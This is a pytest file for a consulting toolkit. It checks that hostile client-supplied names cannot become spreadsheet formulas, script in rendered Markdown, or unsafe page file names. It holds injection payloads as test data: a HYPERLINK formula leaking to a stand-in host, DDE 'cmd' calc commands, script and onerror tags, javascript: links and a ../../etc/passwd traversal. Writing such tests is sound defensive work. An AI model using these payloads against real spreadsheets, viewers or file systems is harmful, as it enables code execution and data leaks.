"""Hostile client text in the deliverables: spreadsheet formulas in the workbook, markup and script
links in the Markdown policy draft, and names that collide or are not file names in the pages."""

from __future__ import annotations

import dataclasses
import re
import shutil
from io import BytesIO
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from markdown_it import MarkdownIt

from kit import notebook as nb
from kit.intake import load_engagement
from kit.phases import agents as am
from kit.phases import consolidation as cs
from kit.phases import summary as sm
from kit.phases import training as tg
from kit.runner import page_title
from kit.settings import parse_settings
from tests.phases.test_agents import rows as task_rows
from tests.phases.test_agents import run as run_agents
from tests.phases.test_summary import write_run

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "sample_data" / "halden"

#: What an attacker puts in front of a name: a live link or command for a spreadsheet (OWASP's
#: formula triggers = + - @), raw HTML and a script link for a Markdown viewer.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak","click") ',
    "=cmd|' /C calc'!A0 ",
    "+cmd|' /C calc'!A0 ",
    "-2+3+cmd|' /C calc'!A0 ",
    "@SUM(1+1)*cmd|' /C calc'!A0 ",
    "<script>alert(1)</script> ",
    '<img src=x onerror="alert(1)"> ',
    "[x](javascript:alert(1)) ",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: Client-controlled text columns of each table, renamed consistently across the tables.
TEXT_COLUMNS = {
    "workflows": ("workflow_id", "department", "workflow", "owner_role", "systems"),
    "time_studies": ("workflow_id",),
    "skills_survey": ("department", "role", "skill"),
    "role_targets": ("role", "skill"),
    "tools": ("tool", "vendor", "owner"),
    "usage": ("tool",),
    "expenses": ("vendor", "description"),
    "recurring_work": ("task_id", "department", "task", "owner_role", "systems"),
}
#: Categories outside the AI ones (renaming them changes no analysis).
PLAIN_CATEGORIES = ("productivity_suite", "warehouse_management", "erp")


def hostile_copy(folder: Path) -> tuple[Path, dict[str, str]]:
    """The sample client with a hostile prefix on every client name (the same name gets the same
    hostile name in every table and in engagement.yaml); returns the folder and the renaming."""
    shutil.copytree(SAMPLE, folder, ignore=shutil.ignore_patterns(".kit"))
    renamed: dict[str, str] = {}

    def rename(value: str) -> str:
        if value == "*" or not value:
            return value
        if value not in renamed:
            renamed[value] = HOSTILE[len(renamed) % len(HOSTILE)] + value
        return renamed[value]

    for table, columns in TEXT_COLUMNS.items():
        path = folder / f"{table}.csv"
        df = pd.read_csv(path, dtype=str, keep_default_na=False)
        for col in columns:
            df[col] = df[col].map(rename)
        if table == "tools":
            df["category"] = df["category"].map(lambda c: rename(c) if c in PLAIN_CATEGORIES else c)
        df.to_csv(path, index=False)
    settings = yaml.safe_load((folder / "engagement.yaml").read_text(encoding="utf-8"))
    settings["client"] = "=HYPERLINK(\"http://evil.example/?c\",\"Halden\") <script>alert('c')</script>"
    settings["accountable_owner"] = "=cmd|' /C calc'!A0 [owner](javascript:alert(1))"
    settings["hourly_cost_by_role"] = {rename(k): v for k, v in settings["hourly_cost_by_role"].items()}
    settings["headcount_by_department"] = {rename(k): v for k, v in settings["headcount_by_department"].items()}
    (folder / "engagement.yaml").write_text(yaml.safe_dump(settings, allow_unicode=True), encoding="utf-8")
    return folder, renamed


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder, renamed = hostile_copy(tmp_path_factory.mktemp("client") / "hostile")
    return load_engagement(folder), renamed


@pytest.fixture(scope="module")
def hostile_workbook(hostile, tmp_path_factory):
    eng, _ = hostile
    folder = write_run(tmp_path_factory.mktemp("run"), eng)
    records = sm.collect(eng, folder)
    r = sm.analyze(records, eng.settings, baselines=sm.time_study_baselines(eng))
    return openpyxl.load_workbook(BytesIO(sm.workbook_bytes(r, records))), records, r


# ---------------------------------------------------------------- the Excel workbook


def test_no_cell_of_any_sheet_is_a_formula_and_hostile_names_read_back_as_text(hostile, hostile_workbook):
    eng, renamed = hostile
    wb, _, _ = hostile_workbook
    formulas = {ws.title: [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"] for ws in wb}
    assert {sheet: cells for sheet, cells in formulas.items() if cells} == {}
    errors = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "e"]
    assert errors == []
    hostile_names = set(renamed.values())
    found: dict[str, int] = {}
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith(FORMULA_START):
                    assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate}: {c.value!r}"
                if c.value in hostile_names:
                    found[ws.title] = found.get(ws.title, 0) + 1
    # every sheet that lists client names shows them exactly as the client wrote them
    listing = {"Chosen workflows", "Workflow inventory", "Departments", "Data gaps", "ROI ranking", "Start here",
               "Readiness", "Skill gaps", "Training cohorts", "Tools", "Renewals", "Shadow AI", "Agent candidates",
               "Agent specifications"}  # fmt: skip
    assert listing <= set(found), sorted(listing - set(found))
    assert wb["Contents"]["A1"].value == f"{eng.settings.client}: AI adoption engagement workbook"
    assert wb["Roadmap"]["E2"].value == eng.settings.accountable_owner


@pytest.mark.parametrize(
    ("sheet", "column", "record", "table", "field"),
    [
        ("Tools", "Tool", "consolidation", "tools", "tool"),
        ("Tools", "Vendor", "consolidation", "tools", "vendor"),
        ("Tools", "Owner", "consolidation", "tools", "owner"),
        ("Workflow inventory", "Workflow id", "workflow_mapping", "inventory", "workflow_id"),
        ("Workflow inventory", "Department", "workflow_mapping", "inventory", "department"),
        ("Skill gaps", "Role", "training_gaps", "role_skill", "role"),
        ("Skill gaps", "Skill", "training_gaps", "role_skill", "skill"),
        ("Agent candidates", "Task", "agent_candidates", "candidates", "task"),
    ],
)
def test_each_client_column_reads_back_equal_to_the_recorded_names(hostile_workbook, sheet, column, record, table, field):
    wb, records, _ = hostile_workbook
    ws = wb[sheet]
    j = [c.value for c in ws[1]].index(column)
    cells = [row[j] for row in ws.iter_rows(min_row=2)]
    expected = [None if pd.isna(v) or v == "" else v for v in records[record].record["tables"][table][field]]
    assert [c.value for c in cells] == expected
    assert {c.data_type for c in cells if c.value is not None} == {"s"}
    assert any(c.value.startswith(FORMULA_START) for c in cells if c.value is not None)


def test_numbers_stay_numbers_and_a_refund_stays_negative(hostile_workbook):
    wb, records, _ = hostile_workbook
    ws = wb["Tools"]
    header = [c.value for c in ws[1]]
    seats = [row[header.index("Seats")] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(v, int | float) for v in seats)
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, int | float)]
    assert cells and all(c.data_type == "n" and not c.quotePrefix for c in cells)


def test_a_negative_number_is_written_as_a_number_not_neutralized_text(hostile_workbook):
    _, _, r = hostile_workbook
    df = pd.DataFrame({"tool": ["-Minus", "Plain"], "annual_saving": [-120.5, 30.0]})
    records = {"consolidation": sm.PhaseRecord("ok", None, {"scalars": {}, "tables": {"tools": df}}, "Consolidation")}
    wb = openpyxl.load_workbook(BytesIO(sm.workbook_bytes(dataclasses.replace(r, client="=evil()"), records)))
    ws = wb["Tools"]
    assert [c.value for c in ws[2]] == ["-Minus", -120.5] and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["B2"].data_type == "n" and not ws["B2"].quotePrefix
    assert wb["Contents"]["A1"].value == "=evil(): AI adoption engagement workbook"
    assert wb["Contents"]["A1"].data_type == "s"


@pytest.mark.parametrize(
    ("name", "prefixed"),
    [("=1+1", True), ("+1", True), ("-x", True), ("@x", True), ("\t=1", True), ("\r=1", True), ("#N/A", False),
     ("#DIV/0!", False), ("00123", False), ("Plain", False)],
)  # fmt: skip
def test_a_name_is_stored_as_the_text_written_never_as_a_formula_or_an_error(hostile_workbook, name, prefixed):
    _, _, r = hostile_workbook
    records = {"consolidation": sm.PhaseRecord("ok", None, {"scalars": {}, "tables": {"tools": pd.DataFrame(
        {"tool": [name]})}}, "Consolidation")}  # fmt: skip
    cell = openpyxl.load_workbook(BytesIO(sm.workbook_bytes(r, records)))["Tools"]["A2"]
    # A carriage return may read back as a line feed (XML end-of-line handling without lxml): the same break.
    assert cell.value in (name, name.replace("\r", "\n"))
    assert (cell.data_type, bool(cell.quotePrefix)) == ("s", prefixed)


def test_a_control_character_in_a_name_does_not_stop_the_workbook(hostile_workbook):
    _, _, r = hostile_workbook
    df = pd.DataFrame({"tool": ["Chat\x07GPT", "Tab\tLine\nfeed"], "vendor": ["\x1bVendor", "V"]})
    records = {"consolidation": sm.PhaseRecord("ok", None, {"scalars": {}, "tables": {"tools": df}}, "Consolidation")}
    ws = openpyxl.load_workbook(BytesIO(sm.workbook_bytes(r, records)))["Tools"]
    assert [[c.value for c in row] for row in ws.iter_rows(min_row=2)] == [
        ["Chat\ufffdGPT", "\ufffdVendor"], ["Tab\tLine\nfeed", "V"]
    ]


# ---------------------------------------------------------------- the Markdown policy draft


def render(md: str) -> str:
    """HTML as a permissive CommonMark viewer makes it: raw HTML on, every link target accepted."""
    parser = MarkdownIt("commonmark")
    parser.validateLink = lambda url: True
    return parser.render(md)


@pytest.fixture(scope="module")
def policy_md(hostile):
    eng, _ = hostile
    return cs.acceptable_use_policy_text(cs.analyze_engagement(eng), eng.settings)


def test_policy_markdown_makes_no_html_and_no_script_link(policy_md):
    html = render(policy_md)
    assert "<script" not in html and "<img" not in html and "onerror=" not in html.replace("onerror=&quot;", "")
    assert not re.search(r"""href=["']?\s*(javascript|vbscript|data):""", html, re.IGNORECASE)
    assert not re.search(r"\]\(\s*(javascript|vbscript|data):", policy_md, re.IGNORECASE)


def test_policy_markdown_still_shows_the_client_text(hostile, policy_md):
    eng, renamed = hostile
    html = render(policy_md)
    text = re.sub(r"<[^>]+>", "", html)
    unescaped = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
    assert f"Acceptable use of AI tools — {eng.settings.client} (draft)" in unescaped
    assert eng.settings.accountable_owner in unescaped
    m = cs.analyze_engagement(eng).data_matrix
    tools = m.loc[m["internal"] | m["confidential"], "tool"]  # the tools the policy names
    assert len(tools) >= len(HOSTILE) and all(t in unescaped for t in tools)


# ---------------------------------------------------------------- page names


SURVEY = pd.DataFrame(
    {
        "respondent_id": ["E1", "E2", "E3"],
        "department": ["Sales", "Sales", "Sales"],
        "role": ["Account manager", "Account-Manager", "Account manager"],
        "skill": ["prompting"] * 3,
        "level": [1, 2, 3],
    }
).astype({"level": "int64"})
TARGETS = pd.DataFrame({"role": ["*"], "skill": ["prompting"], "target_level": [3], "weight": [1.0]}).astype(
    {"target_level": "int64"}
)
SETTINGS = parse_settings({"client": "T", "slug": "t", "start_date": "2027-01-11", "hourly_cost": 50})


def test_roles_with_the_same_slug_get_one_playbook_each(tmp_path):
    r = tg.analyze(SURVEY, TARGETS, SETTINGS)
    pages = tg.playbook_pages(r)
    assert sorted(p.title for p in pages) == ["AI playbook: Account manager", "AI playbook: Account-Manager"]
    written = [nb.write_page(tmp_path, p.name, p.title, p.body, "T", "2027-01-11") for p in pages]
    assert len({p.name for p in written}) == 2 == len(list((tmp_path / "pages").iterdir()))
    assert sorted(page_title(p) for p in written) == sorted(p.title for p in pages)


HOSTILE_IDS = [
    "OPS/12", "ops 12", "v1.2", "..", "../../etc/passwd", "a\\b", '"quoted"', "'single'", "=1+1", "Ünïcødé 任务",
    "任务", "x" * 300, ".hidden", "CON", "OPS-12", "ops-12", "<b>", "a:b*c?",
]  # fmt: skip


def test_every_opaque_task_id_gets_its_own_safe_spec_page(tmp_path):
    r = run_agents(task_rows(*({"task_id": i, "task": f"Task {i}"} for i in HOSTILE_IDS)), top_specs=len(HOSTILE_IDS))
    assert len(r.specs) == len(HOSTILE_IDS)
    paths = am.write_spec_pages(tmp_path, r, "T", "2027-01-11")
    assert len(paths) == len({p.name for p in paths}) == len(HOSTILE_IDS)
    assert {p.parent for p in paths} == {tmp_path / "pages"}
    for p in paths:
        assert re.fullmatch(r"agent_spec_[a-z0-9_-]{1,80}\.html", p.name), p.name
    titles = {page_title(p) for p in paths}
    assert titles == {f"Agent specification: Task {i}" for i in HOSTILE_IDS}


def test_page_names_are_stable_from_run_to_run():
    ids = ["OPS/12", "ops 12", "T1"]
    first = run_agents(task_rows(*({"task_id": i} for i in ids)), top_specs=3).specs
    again = run_agents(task_rows(*({"task_id": i} for i in reversed(ids))), top_specs=3).specs
    assert dict(zip(first["task_id"], first["page"], strict=True)) == dict(zip(again["task_id"], again["page"], strict=True))
    assert dict(zip(first["task_id"], first["page"], strict=True))["T1"] == "agent_spec_t1.html"


def test_the_summary_names_each_spec_page_by_its_task(tmp_path):
    r = run_agents(task_rows({"task_id": "OPS/12", "task": "Month end"}, {"task_id": "ops 12", "task": "Payroll"}),
                   top_specs=2)  # fmt: skip
    rec = nb.result_record("agent_candidates", r)
    records = {"agent_candidates": sm.PhaseRecord("ok", None, sm.loaded_record(rec))}
    titles = sm._page_titles(records)
    paths = am.write_spec_pages(tmp_path, r, "T", "2027-01-11")
    assert {titles[p.name] for p in paths} == {"Month end", "Payroll"}
